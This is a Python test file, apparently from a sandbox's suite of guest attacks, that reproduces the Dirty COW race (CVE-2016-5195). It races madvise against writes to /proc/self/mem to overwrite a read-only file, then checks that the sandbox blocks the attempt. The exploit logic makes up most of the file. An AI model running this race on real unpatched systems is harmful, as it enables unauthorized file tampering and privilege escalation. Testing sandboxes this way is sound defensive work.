# Must print ENOENT True
# group: files
# attacks: mmap madvise pwrite64 mount
import _thread
import ctypes
import errno
import os

from executor.attacks.guest.attack import PRIVATE, READ, map_memory, say

# CVE-2016-5195: the kernel writes to a private page that is thrown away at the same moment
TARGET = "/rt/main.py"
before = open(TARGET).read()
page = map_memory(READ, PRIVATE, os.open(TARGET, os.O_RDONLY))
library = ctypes.CDLL(None)
done = _thread.allocate_lock()
done.acquire()


def throw_away():
    for _ in range(20_000):
        library.madvise(ctypes.c_void_p(page), 4096, 4)
    done.release()


_thread.start_new_thread(throw_away, ())
code = "written"
try:
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while not done.acquire(False):
        os.pwrite(memory, b"root", page)
except OSError as error:
    code = errno.errorcode[error.errno]
    done.acquire()
say(code, open(TARGET).read() == before)
